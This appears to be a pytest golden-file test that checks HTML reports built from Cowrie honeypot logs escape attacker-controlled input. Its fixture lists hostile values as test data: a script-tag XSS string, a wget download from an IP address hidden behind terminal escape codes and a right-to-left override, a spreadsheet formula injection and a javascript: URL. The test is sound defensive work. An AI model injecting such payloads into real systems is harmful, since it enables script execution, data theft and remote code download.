"""Whole pages, byte for byte: what a reader of last month's report gets again.

A page that is meant to change is written anew with ``WRITE_GOLDEN=1``, and looked at.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from tests.unit.ingest.kit import Place

from evidentia.pack.registry import load_packs
from evidentia.report.html import write_page
from evidentia.report.periodic import Period, make_report, read_span
from evidentia.store.scope import AsOf, Scope

from .kit import cowrie_line

GOLDEN = Path(__file__).parent / "golden"
LOGS = Path(__file__).parents[3] / "examples" / "logs"
COMMITTED_US = 1_770_000_000_000_000
"""A moment after everything in the logs: the real commit is another each time."""
HOSTILE = (
    cowrie_line("command.input", input="</td><script>alert('x')</script>", session="f" * 12),
    cowrie_line("command.input", input="\x1b]0;x\x07 wget http://203.0.113.9/\u202eexe.sh"),
    cowrie_line("login.failed", username="=cmd|' /C calc'!A0", session="f" * 12),
    cowrie_line("session.file_download", url="javascript:alert(1)", shasum="ab" * 32),
    cowrie_line("client.size", timestamp="yesterday"),
    b"not json\n",
)


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Place:
    """A store of the example logs, and of some lines that nobody should be shown as they are."""
    found = Place(folder=tmp_path_factory.mktemp("golden"), packs=load_packs())
    for path in (LOGS / "cowrie.json.2026-01-02", LOGS / "world" / "growth_events.jsonl"):
        found.write(path.name, path.read_bytes())
    found.write("hostile.json", b"".join(HOSTILE))
    found.ingest("cowrie.json.2026-01-02", "hostile.json", pack="cowrie")
    found.ingest("growth_events.jsonl", pack="world")
    return found


def page_of(place: Place, name: str) -> str:
    """The page of a pack's report over the first month of the logs."""
    pack_name, period = name.split("-")
    pack = place.packs[pack_name]
    span = read_span(Period(period), "2026-01-01", None)
    with place.store.reader() as reader:
        moment = AsOf(batch_id=reader.newest_batch(), committed_us=COMMITTED_US)
        within = Scope(as_of=moment)
        return "".join(write_page([make_report(reader, pack, Period(period), span, within)]))


@pytest.mark.parametrize("name", ["cowrie-daily", "cowrie-monthly", "world-weekly"])
def test_a_page_is_the_bytes_that_it_was(place: Place, name: str) -> None:
    """VR-05: the same log, moment and pack give the same page, whatever the machine."""
    file = GOLDEN / f"{name}.html"
    page = page_of(place, name)
    if os.environ.get("WRITE_GOLDEN"):
        file.parent.mkdir(exist_ok=True)
        file.write_text(page, "utf-8")

    assert page == file.read_text("utf-8")


def test_no_page_shows_what_a_browser_would_run() -> None:
    """The pages that are kept hold hostile lines, as text."""
    page = (GOLDEN / "cowrie-monthly.html").read_text("utf-8")

    assert "<script" not in page
    assert "alert(&#x27;x&#x27;)" in page or "alert(&#39;x&#39;)" in page
    assert "\x1b" not in page
    assert "\u202e" not in page
